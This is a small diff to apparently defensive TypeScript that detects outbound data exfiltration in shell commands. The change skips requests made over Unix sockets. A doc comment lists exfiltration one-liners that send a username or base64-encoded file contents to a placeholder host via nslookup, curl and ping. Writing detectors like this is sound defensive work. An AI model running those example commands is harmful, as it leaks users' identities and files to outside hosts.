@@ -30,6 +30,7 @@ function nestedFeatures(session: Session, command: SimpleCommand): ReadonlySet<C
 
 /** `nslookup $(whoami).host`, `curl host/$(cat file | base64)`, `ping %USERNAME%.host`. */
 function outboundAnswers(session: Session, command: SimpleCommand): void {
+  if (hasOption(command.args, ['--unix-socket', '--abstract-unix-socket'])) return;
   const resolver = RESOLVERS.has(command.name);
   if (!resolver && !REQUESTERS.has(command.name)) return;
   const target = command.args
